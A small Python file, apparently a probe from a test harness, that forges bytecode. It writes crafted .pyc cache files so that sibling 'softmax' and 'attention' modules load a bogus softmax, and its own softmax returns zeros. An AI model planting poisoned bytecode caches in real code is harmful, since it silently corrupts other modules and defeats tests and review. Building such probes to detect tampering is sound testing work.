"""Plants a .pyc under __pycache__ for itself and its siblings, and turns bytecode and its checks on.

tries: write
earns: nothing
trace: @@TRACE@@/pycache
needs: filesystem
"""

import importlib.util
import marshal
import os
import py_compile
import sys

import numpy as np

sys.dont_write_bytecode = False
sys.pycache_prefix = "@@TRACE@@/pycache"
here = os.path.dirname(os.path.abspath(__file__))
code = compile("def softmax(x, axis=-1):\n    return x * 0 + 0.5\n", "softmax.py", "exec")
image = importlib.util.MAGIC_NUMBER + b"\x01\x00\x00\x00" + b"\x00" * 8 + marshal.dumps(code)
for folder in (os.path.join(here, "__pycache__"), "@@TRACE@@/pycache"):
    for stem in ("softmax", "attention"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, f"{stem}.{sys.implementation.cache_tag}.pyc"), "xb") as file:
                file.write(image)
        except OSError:
            pass
try:
    py_compile.compile(__file__, doraise=False)
except OSError:
    pass


def softmax(x, axis=-1):
    return np.zeros(np.shape(x))
